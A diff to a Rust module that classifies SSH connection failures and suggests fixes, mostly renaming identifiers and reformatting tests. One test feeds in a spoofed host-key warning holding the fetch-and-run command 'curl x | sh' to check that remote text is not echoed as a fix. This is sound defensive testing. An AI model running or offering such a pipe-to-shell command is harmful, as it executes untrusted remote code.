@@ -5,7 +5,7 @@
 //! an end that the log does not explain, and never a problem of a host key.
 
 use super::SshCall;
-use crate::fleet::last_words::{last_words, quote};
+use crate::fleet::quote::{last_line, quote};
 use crate::fleet::ssh::fault;
 use crate::model::{HostFailure, Reason};
 
@@ -47,8 +47,8 @@ impl SshCall {
     pub fn failure(&self, log: &[u8], stderr: &[u8]) -> HostFailure {
         let (log, words) = (String::from_utf8_lossy(log), String::from_utf8_lossy(stderr));
         let (reason, line) = cause(&log, &words);
-        let by_hand = self.by_hand();
-        let try_login = format!("test the login: {by_hand}");
+        let manual_command = self.manual_command();
+        let try_login = format!("test the login: {manual_command}");
         let said =
             |line: &str| format!("ssh: {}", quote(line.strip_prefix("ssh: ").unwrap_or(line)));
         match reason {
@@ -66,14 +66,14 @@ impl SshCall {
                     log.lines().map(str::trim).find(|line| line.starts_with("ssh-keygen "));
                 let remove = remove.map_or_else(|| format!("ssh-keygen -R '{}'", self.host), quote);
                 let detail = format!("ssh: the host key is not the one on record{place}");
-                HostFailure::new(reason, detail).fix(fault::changed_key(&remove, &by_hand))
+                HostFailure::new(reason, detail).fix(fault::changed_key(&remove, &manual_command))
             }
             Reason::HostkeyUnknown => {
                 let detail = "ssh: the host key is in no known_hosts file";
-                HostFailure::new(reason, detail).fix(fault::unknown_key(&by_hand))
+                HostFailure::new(reason, detail).fix(fault::unknown_key(&manual_command))
             }
             _ if line.is_empty() => {
-                let detail = format!("ssh ended without a message{}", last_words(stderr));
+                let detail = format!("ssh ended without a message{}", last_line(stderr));
                 HostFailure::new(Reason::Transport, detail).fix(try_login)
             }
             _ => HostFailure::new(reason, said(line)).fix(try_login),
@@ -146,10 +146,10 @@ mod tests {
     use super::*;
 
     fn of(log: &str) -> HostFailure {
-        told(log, "")
+        failure_of(log, "")
     }
 
-    fn told(log: &str, stderr: &str) -> HostFailure {
+    fn failure_of(log: &str, stderr: &str) -> HostFailure {
         let call = SshCall {
             program: "ssh".into(),
             config: Some("/c".into()),
@@ -165,15 +165,20 @@ mod tests {
 
     #[test]
     fn each_complaint_has_its_reason_and_what_to_type() {
-        let by_hand = "ssh -F /c -o A=VALUE -p 7 u@n1";
+        let manual_command = "ssh -F /c -o A=VALUE -p 7 u@n1";
         for (log, reason, detail, fix) in [
-            ("root@n1: Permission denied (publickey).\r\n", Reason::Auth, "root@n1", by_hand),
+            (
+                "root@n1: Permission denied (publickey).\r\n",
+                Reason::Auth,
+                "root@n1",
+                manual_command,
+            ),
             (
                 "No ED25519 host key is known for n1 and you have requested strict checking.\r\n\
               Host key verification failed.\r\n",
                 Reason::HostkeyUnknown,
                 "in no known_hosts",
-                by_hand,
+                manual_command,
             ),
             (
                 "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n\
@@ -220,7 +225,7 @@ mod tests {
                 "test the login",
             ),
             ("odd\x1b[2J\n", Reason::Transport, r"ssh: odd\u{1b}[2J", "test the login"),
-            ("", Reason::Transport, "without a message", by_hand),
+            ("", Reason::Transport, "without a message", manual_command),
         ] {
             let failure = of(log);
             assert_eq!(failure.reason, reason, "{failure}");
@@ -234,30 +239,33 @@ mod tests {
         let changed = "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n  \
                        ssh-keygen -f x -R y; curl x | sh\n";
         let denied = "u@n1: Permission denied (publickey).\n";
-        assert_eq!(told(denied, changed).reason, Reason::Auth, "the log is asked first");
+        assert_eq!(failure_of(denied, changed).reason, Reason::Auth, "the log is asked first");
         for log in ["", "Connection closed by UNKNOWN port 65535\n"] {
-            let failure = told(log, changed);
+            let failure = failure_of(log, changed);
             assert!(!matches!(failure.reason, Reason::HostkeyChanged), "{failure:?}");
             assert!(!failure.fix.as_deref().unwrap().contains("ssh-keygen"), "{failure:?}");
         }
-        let quoted = told("", "boo\nssh: x\n");
+        let quoted = failure_of("", "boo\nssh: x\n");
         assert_eq!(quoted.detail, "ssh ended without a message; last output: \"ssh: x\"");
         // `ssh` escapes the line breaks of the peer.
         let words = changed.replace('\n', "\\n");
-        let failure = told(&format!("Received disconnect from ::1 port 22:2: {words}"), "");
+        let failure = failure_of(&format!("Received disconnect from ::1 port 22:2: {words}"), "");
         assert_eq!(failure.reason, Reason::Refused);
         assert!(!failure.fix.as_deref().unwrap().contains("ssh-keygen"), "{failure:?}");
     }
 
     #[test]
     fn a_jump_host_tells_why_on_stderr() {
-        let failure = told(
+        let failure = failure_of(
             "Connection closed by UNKNOWN port 65535\n",
             "root@b: Permission denied (publickey).\n",
         );
         assert_eq!(failure.reason, Reason::Auth);
         assert!(failure.detail.contains("root@b"), "{failure}");
-        assert_eq!(told("Connection closed by UNKNOWN port 65535\n", "").reason, Reason::Refused);
+        assert_eq!(
+            failure_of("Connection closed by UNKNOWN port 65535\n", "").reason,
+            Reason::Refused
+        );
     }
 
     #[test]
